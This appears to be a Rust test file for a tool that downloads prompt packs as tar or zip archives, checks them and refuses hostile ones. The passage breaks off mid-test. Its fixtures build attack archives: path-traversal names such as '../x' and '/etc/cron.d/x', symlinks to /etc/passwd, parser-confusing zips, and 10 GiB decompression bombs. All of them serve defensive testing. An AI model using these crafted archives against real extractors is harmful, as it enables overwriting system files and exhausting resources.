//! Packs from archives: downloaded over HTTPS or read from a file, checked, and refused where they are hostile.

use std::collections::HashMap;
use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder};
use parking_lot::Mutex;
use rustls::{ServerConfig, ServerConnection, StreamOwned};

use crate::harness::{CommandOutput, TEST_TIMEOUT, TestFolder};
use crate::pack_sources::{COMMENTED, Desk, PACK, output};
use crate::proxy::{TUNNEL_OPEN, Tunnel};
use crate::tls::Authority;

/// The kinds of entries of tar.
const FILE: u8 = b'0';
const HARD_LINK: u8 = b'1';
const SYMLINK: u8 = b'2';
const DEVICE: u8 = b'3';
const FOLDER: u8 = b'5';
const FIFO: u8 = b'6';
const LONG_LINK: u8 = b'K';
const LONG_NAME: u8 = b'L';
const SPARSE: u8 = b'S';
const PAX: u8 = b'x';
const PAX_GLOBAL: u8 = b'g';

/// A tar archive, entry by entry, whatever its entries are.
#[derive(Default)]
struct Tar {
    bytes: Vec<u8>,
}

impl Tar {
    fn of(files: &[(&str, &str)]) -> Tar {
        files.iter().fold(Tar::default(), |tar, (path, text)| tar.entry(path.as_bytes(), FILE, text.as_bytes()))
    }

    fn entry(self, path: &[u8], kind: u8, content: &[u8]) -> Tar {
        let size = content.len() as u64;
        self.sized_entry(path, kind, (content, size))
    }

    fn sized_entry(mut self, path: &[u8], kind: u8, (content, size): (&[u8], u64)) -> Tar {
        let mut header = [0_u8; 512];
        header[..path.len()].copy_from_slice(path);
        header[100..108].copy_from_slice(b"0000644\0");
        header[124..136].copy_from_slice(format!("{size:011o}\0").as_bytes());
        header[136..148].copy_from_slice(b"00000000000\0");
        header[156] = kind;
        if kind == HARD_LINK || kind == SYMLINK {
            header[157..168].copy_from_slice(b"/etc/passwd");
        }
        header[257..265].copy_from_slice(b"ustar\x0000");
        header[148..156].copy_from_slice(b"        ");
        let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
        header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        self.bytes.extend(header);
        self.bytes.extend(content);
        self.bytes.resize(self.bytes.len().next_multiple_of(512), 0);
        self
    }

    fn pax(self, kind: u8, pairs: &[(&str, &str)]) -> Tar {
        let text: String = pairs.iter().map(|(key, value)| pax_record(key, value)).collect();
        self.entry(b"PaxHeader", kind, text.as_bytes())
    }

    fn end(mut self) -> Vec<u8> {
        self.bytes.extend([0; 1024]);
        self.bytes
    }

    fn gz(self) -> Vec<u8> {
        gz(&self.end())
    }
}

fn pax_record(key: &str, value: &str) -> String {
    let rest = format!(" {key}={value}\n");
    let length = (rest.len()..).find(|length| length.to_string().len() + rest.len() == *length).unwrap();
    format!("{length}{rest}")
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// An entry of a zip archive, whatever it says of itself.
#[derive(Clone)]
struct Zipped {
    path: Vec<u8>,
    /// What is between the headers.
    data: Vec<u8>,
    method: u16,
    flags: u16,
    /// The size that the headers say.
    size: u32,
    crc: u32,
    mode: u32,
    /// Where the directory says that it is, if not where it is.
    offset: Option<u32>,
    /// Whether the directory has it.
    is_listed: bool,
}

impl Zipped {
    fn new(path: &str, text: &[u8]) -> Zipped {
        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::fast());
        encoder.write_all(text).unwrap();
        let mut crc = flate2::Crc::new();
        crc.update(text);
        Zipped {
            path: path.as_bytes().to_vec(),
            data: encoder.finish().unwrap(),
            method: 8,
            flags: 0,
            size: text.len() as u32,
            crc: crc.sum(),
            mode: 0o100_644,
            offset: None,
            is_listed: true,
        }
    }

    /// The same, with its checksum and its sizes behind its bytes.
    fn streamed(self) -> Zipped {
        Zipped { flags: 8, ..self }
    }

    fn fields(&self, is_local: bool) -> Vec<u8> {
        let mut bytes = Vec::new();
        let later = is_local && self.flags & 8 != 0;
        for field in [20_u16, self.flags, self.method, 0, 0x21] {
            bytes.extend(field.to_le_bytes());
        }
        for field in [self.crc, self.data.len() as u32, self.size] {
            bytes.extend(if later { 0 } else { field }.to_le_bytes());
        }
        bytes.extend((self.path.len() as u16).to_le_bytes());
        bytes.extend(0_u16.to_le_bytes());
        bytes
    }
}

fn zip(entries: &[Zipped]) -> Vec<u8> {
    zip_with_count(entries, entries.iter().filter(|entry| entry.is_listed).count() as u16)
}

fn zip_with_count(entries: &[Zipped], count: u16) -> Vec<u8> {
    let (mut bytes, mut directory) = (Vec::new(), Vec::new());
    for entry in entries {
        let offset = entry.offset.unwrap_or(bytes.len() as u32);
        bytes.extend(b"PK\x03\x04");
        bytes.extend(entry.fields(true));
        bytes.extend(&entry.path);
        bytes.extend(&entry.data);
        if entry.flags & 8 != 0 {
            bytes.extend(b"PK\x07\x08");
            let described = [entry.crc, entry.data.len() as u32, entry.size];
            described.iter().for_each(|field| bytes.extend(field.to_le_bytes()));
        }
        if !entry.is_listed {
            continue;
        }
        directory.extend(b"PK\x01\x02");
        directory.extend(((3_u16 << 8) | 20).to_le_bytes());
        directory.extend(entry.fields(false));
        directory.extend([0; 6]);
        directory.extend((entry.mode << 16).to_le_bytes());
        directory.extend(offset.to_le_bytes());
        directory.extend(&entry.path);
    }
    let start = bytes.len() as u32;
    bytes.extend(&directory);
    bytes.extend(b"PK\x05\x06\0\0\0\0");
    bytes.extend([count.to_le_bytes(), count.to_le_bytes()].concat());
    bytes.extend([(directory.len() as u32).to_le_bytes(), start.to_le_bytes()].concat());
    bytes.extend([0, 0]);
    bytes
}

fn zip_of(files: &[(&str, &str)]) -> Vec<u8> {
    zip(&files.iter().map(|(path, text)| Zipped::new(path, text.as_bytes())).collect::<Vec<_>>())
}

fn sha256(bytes: &[u8]) -> String {
    let mut child = Command::new("sha256sum").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(bytes).unwrap();
    String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap()[..64].to_owned()
}

/// A file with an archive.
struct Local {
    folder: TestFolder,
    name: &'static str,
}

impl Local {
    fn new(name: &'static str, bytes: &[u8]) -> Local {
        let local = Local { folder: TestFolder::new(&[]), name };
        local.folder.write(name, bytes);
        local
    }

    fn url(&self) -> String {
        format!("file://{}", self.folder.path().canonicalize().unwrap().join(self.name).display())
    }

    fn bytes(&self) -> Vec<u8> {
        fs::read(self.folder.join(self.name)).unwrap()
    }

    fn keys(&self) -> String {
        format!("url: \"{}\", sha256: {}", self.url(), sha256(&self.bytes()))
    }
}

/// Archives that are refused, by what is said of them.
#[track_caller]
fn assert_refused(archive: &[u8], why: &str) {
    let local = Local::new("x", archive);
    let desk = Desk::new(&local.keys());
    let said = desk.fail(&["lock"]);
    assert!(said.contains(why), "expected {why}: {said}");
    assert!(!desk.folder.join("folio.lock").exists());
    assert!(desk.cached().is_empty(), "nothing is left in the cache");
}

/// Archives that are taken, and the names of their files.
#[track_caller]
fn assert_files(archive: &[u8], names: &[&str]) -> String {
    let local = Local::new("x", archive);
    let desk = Desk::new(&local.keys());
    let said = desk.run(&["lock"]);
    assert_eq!(said.code, Some(0), "{said:?}");
    let found = Command::new("sh").args(["-c", "find . -type f | sort"]).current_dir(desk.pack()).output().unwrap();
    let found = String::from_utf8(found.stdout).unwrap();
    assert_eq!(found.lines().map(|line| &line[2..]).collect::<Vec<_>>(), names);
    said.err
}

#[test]
fn locked_archive_is_served_from_the_cache() {
    let files = [("docs-1.2.0/prompts/folio.yaml", PACK), ("docs-1.2.0/prompts/a/b.md", "text"), ("docs-1.2.0/x", "x")];
    let plain = TestFolder::new(&[("folio.yaml", PACK), ("a/b.md", "text")]);
    let lines = "find . -type f | sed 's,^./,,' | LC_ALL=C sort | xargs sha256sum | sha256sum";
    let sum = Command::new("sh").args(["-c", lines]).current_dir(plain.path()).output().unwrap();
    let digest = format!("sha256:{}", &String::from_utf8_lossy(&sum.stdout)[..64]);
    // Names say nothing.
    for archive in [Tar::of(&files).gz(), Tar::of(&files).end(), zip_of(&files)] {
        let local = Local::new("archive", &archive);
        let desk = Desk::locked(&format!("{}, path: ./docs-1.2.0/prompts/", local.keys()));
        assert_eq!(desk.locked_value("digest"), digest);
        assert_eq!(desk.locked_value("sha256"), sha256(&archive));
        assert_eq!(desk.locked_value("path"), "docs-1.2.0/prompts");
        assert_eq!(desk.locked_value("files"), "2");
        drop(local);
        for arguments in [&["check"][..], &["list"], &["get", "docs-hi"], &["lock", "--check"], &["lock"], &["fetch"]] {
            let ran = desk.run_without_programs(arguments);
            assert_eq!(ran.code, Some(0), "{arguments:?}: {ran:?}");
        }
        assert_eq!(desk.ok(&["get", "docs-hi"]).trim(), "Hello");
        desk.tamper("folio.yaml", &PACK.replace("Hello", "Evil"));
        for arguments in [&["check"][..], &["get", "docs-hi"], &["lock", "--check"]] {
            let ran = desk.run(arguments);
            assert!(
                (ran.out + &ran.err).contains("pack `docs` in the cache does not match folio.lock"),
                "{arguments:?}"
            );
        }
    }
}

#[test]
fn archive_with_another_digest_is_refused() {
    let local = Local::new("x.tar.gz", &Tar::of(&[("folio.yaml", PACK)]).gz());
    let desk = Desk::locked(&local.keys());
    let before = desk.lock();
    fs::rename(desk.folder.join("cache"), desk.folder.join("gone")).unwrap();
    local.folder.write("x.tar.gz", Tar::of(&[("folio.yaml", &PACK.replace("Hello", "Evil"))]).gz());
    let said = desk.fail(&["fetch"]);
    assert!(said.contains("the archive has sha256 ") && said.contains("help: "), "{said}");
    assert!(desk.cached().is_empty());
    assert!(desk.fail(&["check"]).contains("is not fetched"));
    // A lock with another digest of the files.
    local.folder.write("x.tar.gz", Tar::of(&[("folio.yaml", PACK)]).gz());
    let digest = desk.locked_value("digest");
    desk.folder.write("folio.lock", before.replace(&digest, &format!("sha256:{}", "0".repeat(64))));
    assert!(desk.fail(&["fetch"]).contains("has other files than folio.lock says"));
    desk.folder.write("folio.lock", &before);
    desk.ok(&["fetch"]);
    assert_eq!(desk.ok(&["get", "docs-hi"]).trim(), "Hello");
}

#[test]
fn sources_of_archives_are_checked() {
    let sum = "a".repeat(64);
    for (keys, why) in [
        ("url: https://example.com/x.zip".to_owned(), "missing key `sha256`"),
        (format!("url: http://example.com/x.zip, sha256: {sum}"), "begins with `https://`"),
        (format!("url: /srv/x.zip, sha256: {sum}"), "begins with `https://`"),
        (format!("url: https://me:secret@example.com/x.zip, sha256: {sum}"), "contains credentials"),
        (format!("url: \"https://example.com/x.zip?token=t\", sha256: {sum}"), "contains credentials"),
        (format!("url: \"file://host/x.zip\", sha256: {sum}"), "invalid URL"),
        ("url: https://example.com/x.zip, sha256: 12".to_owned(), "expected 64 hexadecimal digits"),
        (format!("url: https://example.com/x.zip, sha256: {sum}, path: ../x"), "escapes the archive"),
        (format!("url: https://example.com/x.zip, sha256: {sum}, rev: v1"), "`rev` cannot be used without `git`"),
        (format!("git: https://example.com/x, sha256: {sum}"), "`sha256` cannot be used without `url`"),
        (
            format!("git: https://example.com/x, url: https://example.com/x.zip, sha256: {sum}"),
            "cannot be used with `git`",
        ),
        (format!("path: x, sha256: {sum}"), "`sha256` cannot be used without `url`"),
    ] {
        let desk = Desk::new(&keys);
        let said = desk.fail(&["check"]);
        assert!(said.contains(why), "{keys}: {said}");
    }
}

#[test]
fn paths_of_archives_that_escape_are_refused() {
    let names: [&[u8]; 12] = [
        b"../x", b"a/../../x", b"/etc/x", b"a\\..\\x", b"C:/x", b"c:x", b"a//b", b".git/config", b"a/.GIT/x", b"a\nb",
        b"./../x", b"././x",
    ];
    for name in names {
        assert_refused(&Tar::of(&[("a.md", "x")]).entry(name, FILE, b"evil").gz(), "unsafe path");
        let named = Zipped { path: name.to_vec(), ..Zipped::new("", b"evil") };
        assert_refused(&zip(&[Zipped::new("a.md", b"x"), named]), "unsafe path");
    }
    let zipped = Zipped { path: b"a\0b".to_vec(), ..Zipped::new("", b"evil") };
    assert_refused(&zip(&[zipped]), "unsafe path");
    let pax = |path: &str| Tar::default().pax(PAX, &[("path", path)]).entry(b"a.md", FILE, b"evil").gz();
    assert_refused(&pax("../x"), "unsafe path");
    assert_refused(&pax("a\0b"), "unsafe path");
    let long = Tar::default().entry(b"././@LongLink", LONG_NAME, b"/etc/cron.d/x\0").entry(b"a", FILE, b"evil");
    assert_refused(&long.gz(), "unsafe path");
    assert_refused(&Tar::default().entry(b"a\xff", FILE, b"x").gz(), "is not UTF-8");
    assert_refused(&zip(&[Zipped { path: b"\x81".to_vec(), ..Zipped::new("", b"x") }]), "is not UTF-8");
    // What is outside of `path` is not hidden by it.
    let local = Local::new("x", &Tar::of(&[("a/x.md", "x")]).entry(b"../x", FILE, b"evil").gz());
    assert!(Desk::new(&format!("{}, path: a", local.keys())).fail(&["lock"]).contains("unsafe path"));
}

#[test]
fn names_that_are_there_twice_are_refused() {
    assert_refused(&Tar::of(&[("a", "x"), ("a", "y")]).gz(), "is there twice");
    assert_refused(&Tar::of(&[("a", "x"), ("./a", "y")]).gz(), "is there twice");
    assert_refused(&Tar::of(&[("a", "x"), ("a/b", "y")]).gz(), "is there twice");
    assert_refused(&Tar::of(&[("README", "x"), ("readme", "y")]).gz(), "differ in case alone");
    assert_refused(&zip_of(&[("a", "x"), ("a", "y")]), "there twice");
    assert_refused(&zip_of(&[("A/x", "x"), ("a/y", "y")]), "differ in case alone");
}

#[test]
fn names_that_some_systems_take_for_one_are_refused() {
    let composed_and_not = [("caf\u{e9}.md", "x"), ("cafe\u{301}.md", "y")];
    assert_refused(&zip_of(&composed_and_not), "are the same name on some systems");
    assert_refused(&Tar::of(&composed_and_not).gz(), "are the same name on some systems");
    assert_refused(&zip_of(&[("stra\u{df}e", "x"), ("STRASSE", "y")]), "are the same name on some systems");
    assert_refused(&zip_of(&[("\u{c9}.md", "x"), ("\u{e9}.md", "y")]), "differ in case alone");
    assert_refused(&zip_of(&[("a\u{1}b", "x")]), "unsafe path");
    assert_refused(&zip_of(&[("a\u{7f}b", "x")]), "unsafe path");
    for (one, other) in [("a.md", "a.md."), ("a.md", "a.md "), ("ab.md", "a\u{200d}b.md"), ("ab", "ab::$DATA")] {
        assert_refused(&zip_of(&[(one, "x"), (other, "y")]), "are the same name on some systems");
        assert_refused(&Tar::of(&[(one, "x"), (other, "y")]).gz(), "are the same name on some systems");
    }
    // What is only hard to see is there, with a warning.
    for archive in [zip_of(&[("a\u{202e}dm.md", "x")]), Tar::of(&[("a\u{202e}dm.md", "x")]).gz()] {
        let said = assert_files(&archive, &["a\u{202e}dm.md"]);
        assert!(said.contains("the name of `adm.md` contains hidden Unicode (U+202E)"), "{said}");
        assert!(!said.contains('\u{202e}'), "{said}");
    }
}

/// A zip archive, changed at its end: `at` counts from the record there.
fn with_end(mut bytes: Vec<u8>, at: usize, change: &[u8]) -> Vec<u8> {
    let start = bytes.len() - 22 + at;
    bytes[start..start + change.len()].copy_from_slice(change);
    bytes
}

#[test]
fn zips_that_two_readers_read_differently_are_refused() {
    let (one, other) = (zip_of(&[("a.md", "x")]), zip_of(&[("b.md", "y")]));
    // One in front of another: from its first byte it is the first, from its end the second.
    assert_refused(&[one.as_slice(), &other].concat(), "its directory is not where it says");
    let start = u32::from_le_bytes(other[other.len() - 6..other.len() - 2].try_into().unwrap());
    let mut moved = [one.as_slice(), &other].concat();
    let length = moved.len();
    moved[length - 6..length - 2].copy_from_slice(&(start + one.len() as u32).to_le_bytes());
    let entry = one.len() + start as usize + 42;
    moved[entry..entry + 4].copy_from_slice(&(one.len() as u32).to_le_bytes());
    assert_refused(&moved, "bytes that belong to no entry");
    // One in the comment of another.
    let commented = with_end(one.clone(), 20, &(other.len() as u16).to_le_bytes());
    assert_refused(&[commented.as_slice(), &other].concat(), "it has two ends");
    let commented = with_end(one.clone(), 20, &4_u16.to_le_bytes());
    assert_files(&[commented.as_slice(), b"3f2a"].concat(), &["a.md"]);
    assert_refused(&[one.as_slice(), b"JUNK"].concat(), "bytes behind its end");
    // An entry that the directory has not, at each place.
    let [shown, hidden] =
        [("a.md", true), ("b.md", false)].map(|(path, is_listed)| Zipped { is_listed, ..Zipped::new(path, b"x") });
    for entries in [
        vec![hidden.clone(), shown.clone()],
        vec![shown.clone(), hidden.clone()],
        vec![shown.clone(), hidden, Zipped::new("c.md", b"z")],
    ] {
        assert_refused(&zip(&entries), "bytes that belong to no entry");
    }
    let two = [shown, Zipped::new("c.md", b"z")];
    assert_refused(&zip_with_count(&two, 1), "another number of entries than it says");
    assert_refused(&with_end(zip(&two), 4, &[1, 0]), "the archive ");
    // Sizes and checksums before the bytes of an entry that are others than in the directory.
    for at in [14, 18, 22] {
        let mut bytes = one.clone();
        bytes[at] ^= 1;
        assert_refused(&bytes, "an entry has another size or checksum");
    }
    // Flags before the bytes of an entry: encrypted, with a descriptor.
    for flags in [1, 8, 1 << 6] {
        let mut bytes = one.clone();
        bytes[6..8].copy_from_slice(&u16::to_le_bytes(flags));
        assert_refused(&bytes, "an entry has other flags than in its directory");
    }
    // Honest archives, also of programs that write to a pipe.
    assert_files(
        &zip(&[Zipped::new("a.md", b"x").streamed(), Zipped::new("b.md", b"y").streamed()]),
        &["a.md", "b.md"],
    );
    let folder = TestFolder::new(&[("folio.yaml", PACK), ("a/b.md", "text")]);
    let script = "git init -q . && git add -A && git -c user.name=A -c user.email=a@x commit -qm x && \
                  git archive --format=zip HEAD";
    let written = Command::new("sh").args(["-c", script]).current_dir(folder.path()).output().unwrap();
    assert!(written.status.success(), "{written:?}");
    assert_files(&written.stdout, &["a/b.md", "folio.yaml"]);
}

#[test]
fn tars_that_two_readers_read_differently_are_refused() {
    // What one reader skips behind a link or a folder, another takes for an entry.
    let hidden = Tar::of(&[("folio.yaml", "evil")]).bytes;
    for kind in [HARD_LINK, SYMLINK, FOLDER] {
        let tar = Tar::of(&[("folio.yaml", PACK)]).entry(b"x", kind, &hidden);
        assert_refused(&tar.gz(), "`x` in the archive is a link or a folder, and has a size");
    }
    // Two names of one entry.
    let pax = |tar: Tar| tar.pax(PAX, &[("path", "a.md")]);
    let gnu = |tar: Tar| tar.entry(b"././@LongLink", LONG_NAME, b"b.md\0");
    let twice = |tar: Tar| tar.pax(PAX, &[("path", "a.md"), ("path", "b.md")]);
    for named in [
        gnu(pax(Tar::default())),
        pax(gnu(Tar::default())),
        gnu(gnu(Tar::default())),
        pax(pax(Tar::default())),
        twice(Tar::default()),
    ] {
        assert_refused(&named.entry(b"c", FILE, b"x").gz(), "an entry has two long names");
    }
    let sizes = Tar::default().pax(PAX, &[("size", "9"), ("size", "1")]).entry(b"c", FILE, b"x");
    assert_refused(&sizes.gz(), "an entry has two sizes");
    // The folders of a path where only ustar has them.
    let prefixed = |magic: &[u8; 8]| {
        let mut bytes = Tar::of(&[("a.md", "x")]).bytes;
        bytes[257..265].copy_from_slice(magic);
        bytes[345..348].copy_from_slice(b"sub");
        bytes[148..156].copy_from_slice(b"        ");
        let sum: u32 = bytes[..512].iter().map(|byte| u32::from(*byte)).sum();
        bytes[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        gz(&Tar { bytes }.end())
    };
    assert_files(&prefixed(b"ustar\x0000"), &["sub/a.md"]);
    for magic in [b"ustar  \0", b"\0\0\0\0\0\0\0\0", b"ustar\0\0\0"] {
        assert_refused(&prefixed(magic), "an entry may have two paths");
    }
}

#[test]
fn path_of_two_kinds_is_refused() {
    let tar = || Tar::of(&[("folio.yaml", PACK)]);
    for kind in [HARD_LINK, SYMLINK, FOLDER] {
        assert_refused(&tar().entry(b"folio.yaml", kind, b"").gz(), "`folio.yaml` is there twice");
        let before = Tar::default().entry(b"./a", kind, b"").entry(b"a", FILE, b"x");
        assert_refused(&before.gz(), "`a` is there twice");
    }
    assert_refused(&tar().entry(b"a", SYMLINK, b"").entry(b"a/b", FILE, b"x").gz(), "`a` is there twice");
    assert_refused(&tar().entry(b"FOLIO.yaml", SYMLINK, b"").gz(), "differ in case alone");
    assert_refused(&tar().entry(b"b/../folio.yaml", SYMLINK, b"").gz(), "unsafe path");
    let folder = Zipped { mode: 0o040_755, ..Zipped::new("x/", b"") };
    let link = Zipped { mode: 0o120_777, ..Zipped::new("x", b"/etc/passwd") };
    let file = Zipped::new("x", b"x");
    for pair in [[&folder, &file], [&file, &folder], [&link, &folder]] {
        assert_refused(&zip(&pair.map(Clone::clone)), "is there twice");
    }
    assert_refused(&zip(&[Zipped::new("x/", b"text")]), "is a link or a folder, and has a size");
    // Folders may be there as often as one likes.
    let folders = tar().entry(b"./", FOLDER, b"").entry(b"a/", FOLDER, b"").entry(b"a", FOLDER, b"");
    assert_files(&folders.entry(b"a/b", FILE, b"x").gz(), &["a/b", "folio.yaml"]);
}

#[test]
fn tar_that_is_cut_off_between_entries_is_refused() {
    let tar = Tar::of(&[("folio.yaml", PACK)]);
    let missing = "it is cut off: the block of zeros at its end is missing";
    assert_refused(&tar.bytes, missing);
    assert_refused(&gz(&tar.bytes), missing);
    assert_refused(&tar.bytes[..512 + PACK.len()], "the archive is damaged");
    let whole = tar.end();
    assert_refused(&whole[..whole.len() - 1000], "the archive is damaged");
    assert_files(&whole[..whole.len() - 512], &["folio.yaml"]);
}

#[test]
fn links_are_left_out_and_devices_refused() {
    let tar = Tar::of(&[("folio.yaml", PACK)])
        .entry(b"link", SYMLINK, b"")
        .entry(b"hard", HARD_LINK, b"")
        .entry(b"folder/", FOLDER, b"")
        .entry(b"folder/a.md", FILE, b"x");
    let said = assert_files(&tar.gz(), &["folder/a.md", "folio.yaml"]);
    assert!(said.contains("left out links: `link`, `hard`"), "{said}");
    let link = Zipped { mode: 0o120_777, ..Zipped::new("link", b"/etc/passwd") };
    let folder = Zipped { mode: 0o040_755, ..Zipped::new("folder/", b"") };
    let zipped = zip(&[Zipped::new("folio.yaml", PACK.as_bytes()), link, folder, Zipped::new("folder/a.md", b"x")]);
    let said = assert_files(&zipped, &["folder/a.md", "folio.yaml"]);
    assert!(said.contains("left out links: `link`"), "{said}");
    for kind in [DEVICE, b'4', FIFO] {
        assert_refused(&Tar::of(&[("a", "x")]).entry(b"dev", kind, b"").gz(), "is a device or a pipe");
    }
    assert_refused(&zip(&[Zipped { mode: 0o010_644, ..Zipped::new("p", b"") }]), "is a device or a pipe");
    assert_refused(&Tar::of(&[("a", "x")]).entry(b"s", SPARSE, b"x").gz(), "a sparse file");
}

#[test]
fn long_names_of_every_kind_are_read() {
    let long = format!("{}/x.md", "folder".repeat(30));
    let pax = Tar::of(&[("folio.yaml", PACK)])
        .pax(PAX_GLOBAL, &[("comment", "3f2a")])
        .pax(PAX, &[("path", &long), ("mtime", "1.5")])
        .entry(b"cut", FILE, b"x");
    assert_files(&pax.gz(), &[&long, "folio.yaml"]);
    let gnu = Tar::of(&[("./folio.yaml", PACK)])
        .entry(b"././@LongLink", LONG_NAME, format!("{long}\0").as_bytes())
        .entry(b"cut", FILE, b"x");
    assert_files(&gnu.gz(), &[&long, "folio.yaml"]);
    // What the tar of this system writes.
    let folder = TestFolder::new(&[("folio.yaml", PACK), (&long, "x"), ("\u{fc} b/-x", "y")]);
    for format in ["gnu", "pax", "ustar"] {
        let long = if format == "ustar" { ["folio.yaml"].as_slice() } else { &["."] };
        let mut tar = Command::new("tar");
        tar.arg(format!("--format={format}")).arg("-cz").args(long).current_dir(folder.path());
        let written = tar.output().unwrap();
        assert!(written.status.success(), "{written:?}");
        let sum = sha256(&written.stdout);
        let local = Local::new("x", &written.stdout);
        let desk = Desk::locked(&local.keys());
        assert_eq!(desk.locked_value("sha256"), sum);
        assert_eq!(desk.locked_value("files"), if format == "ustar" { "1" } else { "3" });
    }
}

#[test]
fn damaged_archives_are_refused() {
    let tar = Tar::of(&[("folio.yaml", PACK)]).end();
    let packed = gz(&tar);
    assert_refused(b"", "no files");
    assert_refused(b"folio: 1\n", "it is no archive");
    assert_refused(&[7; 4096], "it is no archive");
    assert_refused(&gz(b"one text"), "it is no archive");
    assert_refused(&gz(&packed), "it is no archive");
    assert_refused(&gz(&zip_of(&[("a", "x")])), "it is no archive");
    assert_refused(&packed[..packed.len() / 2], "the archive is damaged");
    assert_refused(&tar[..700], "the archive is damaged");
    assert_refused(&packed[..packed.len() - 4], "the archive is damaged");
    let mut wrong_sum = packed.clone();
    let at = wrong_sum.len() - 8;
    wrong_sum[at] ^= 1;
    assert_refused(&wrong_sum, "the archive is damaged");
    assert_refused(&[packed.as_slice(), b"JUNK"].concat(), "the archive is damaged");
    assert_refused(&[packed.as_slice(), &packed].concat(), "something is behind its end");
    assert_refused(&[tar.as_slice(), &tar].concat(), "something is behind its end");
    assert_files(&gz(&[tar.as_slice(), &[0; 9216]].concat()), &["folio.yaml"]);
    assert_refused(&[0; 1024], "no files");
    let mut two_names = zip_of(&[("aaaa.md", "x")]);
    two_names[30] = b'z';
    assert_refused(&two_names, "has a different name in its local header");
    let zipped = zip_of(&[("a", "some text"), ("b", "x")]);
    assert_refused(&zipped[..zipped.len() - 30], "the archive is damaged");
    // Two sizes of one entry, of which another reader takes the other.
    let two = Tar::default().pax(PAX, &[("size", "512")]).entry(b"a", FILE, b"x");
    assert_refused(&two.gz(), "two sizes of `a`");
    assert_refused(&Tar::default().pax(PAX_GLOBAL, &[("path", "x")]).entry(b"a", FILE, b"x").gz(), "for all entries");
    assert_refused(&Tar::default().pax(PAX, &[("GNU.sparse.major", "1")]).entry(b"a", FILE, b"x").gz(), "sparse");
    // What zip archives say of themselves.
    let honest = Zipped::new("a", &[b'x'; 5000]);
    for liar in [Zipped { size: 4, ..honest.clone() }, Zipped { size: 9000, ..honest.clone() }] {
        assert_refused(&zip(&[liar]), "the archive is damaged");
    }
    assert_refused(&zip(&[Zipped { crc: 1, ..honest.clone() }]), "the archive is damaged");
    assert_refused(&zip(&[Zipped { flags: 1, ..honest.clone() }]), "encrypted");
    assert_refused(&zip(&[Zipped { method: 12, ..honest.clone() }]), "another method");
    assert_refused(&zip_with_count(&[honest], 40_000), "the archive is damaged");
}

#[test]
fn bombs_end_at_the_limits() {
    // 10 GiB in one file, in many, and in what only describes one: all of it is zeros, so that one gzip member repeats.
    let member = gz(&vec![0; 64 << 20]);
    let sized = |kind: u8, size: u64| {
        let mut bytes = gz(&Tar::default().sized_entry(b"bomb", kind, (b"", size)).bytes);
        (0..160).for_each(|_| bytes.extend(&member));
        bytes
    };
    assert_refused(&sized(FILE, (8 << 30) - 1), "larger than 16 MiB");
    assert_refused(&sized(PAX, (8 << 30) - 1), "a header of more than 64 KiB");
    assert_refused(&sized(LONG_NAME, (8 << 30) - 1), "a header of more than 64 KiB");
    assert_refused(&sized(LONG_LINK, (8 << 30) - 1), "the archive unpacks to more than 256 MiB");
    let full = vec![0; 16 << 20];
    let five = (0..5).fold(Tar::default(), |tar, nth| tar.entry(format!("{nth}").as_bytes(), FILE, &full));
    assert_refused(&five.gz(), "larger than 64 MiB together");
    let five: Vec<Zipped> = (0..5).map(|nth| Zipped::new(&nth.to_string(), &full)).collect();
    assert_refused(&zip(&five), "larger than 64 MiB together");
    assert_refused(&zip(&[Zipped::new("a", &vec![0; (16 << 20) + 1])]), "`a` is larger than 16 MiB");
    let many = (0..10_001).fold(Tar::default(), |tar, nth| tar.entry(format!("{nth}").as_bytes(), FILE, b""));
    assert_refused(&many.gz(), "more than 10000 files");
    let many: Vec<Zipped> = (0..10_001).map(|nth| Zipped::new(&nth.to_string(), b"")).collect();
    assert_refused(&zip(&many), "more than 10000 files");
    // Entries that share their bytes.
    let kernel = Zipped::new("a", &vec![0; 1 << 20]);
    let shared = Zipped { offset: Some(0), ..kernel.clone() };
    assert_refused(&zip(&[kernel, shared.clone(), Zipped { path: b"b".to_vec(), ..shared }]), "twice");
    let kernel = Zipped::new("a", b"x");
    let other = Zipped { path: b"b".to_vec(), offset: Some(0), ..kernel.clone() };
    assert_refused(&zip(&[kernel, other]), "overlap");
    // One in another is a file.
    let nested = zip(&[Zipped::new("folio.yaml", PACK.as_bytes()), Zipped::new("inner.zip", &zip_of(&[("a", "x")]))]);
    assert_files(&nested, &["folio.yaml", "inner.zip"]);
}

#[test]
fn entries_of_an_archive_are_limited() {
    let rows: String = (0..10_001).map(|nth| format!("p{nth},hi\n")).collect();
    let local = Local::new("x.tar.gz", &Tar::of(&[("prompts.csv", &format!("act,prompt\n{rows}"))]).gz());
    let desk = Desk::with_manifest(COMMENTED);
    desk.ok(&["add", &local.url()]);
    let said = desk.ok(&["check"]);
    assert!(
        said.contains("more than 10000 prompts or 50000 arguments in a pack from elsewhere: the others are left out"),
        "{said}"
    );
    let entries: String = (0..10_001).map(|nth| format!("  p{nth}: {{ text: hi }}\n")).collect();
    let manifest = format!("folio: 1\nserver: {{ name: p }}\nprompts:\n{entries}");
    let local = Local::new("y.tar.gz", &Tar::of(&[("folio.yaml", &manifest)]).gz());
    let desk = Desk::with_manifest(COMMENTED);
    let said = desk.fail(&["add", &local.url()]);
    assert!(said.contains("more than 10000 prompts, resources and tools in a pack from elsewhere"), "{said}");
    assert!(said.contains("10004 |   p10000: { text: hi }"), "{said}");
    assert_eq!(fs::read_to_string(desk.folder.join("folio.yaml")).unwrap(), COMMENTED);
}

#[test]
fn arguments_of_an_archive_are_limited_together() {
    let keys: String = (0..251).map(|nth| format!("a{nth}: {{}}, ")).collect();
    let prompts: String = (0..200).map(|nth| format!("  p{nth}: {{ text: hi, arguments: {{ {keys} }} }}\n")).collect();
    let manifest = format!("folio: 1\nserver: {{ name: p }}\nprompts:\n{prompts}");
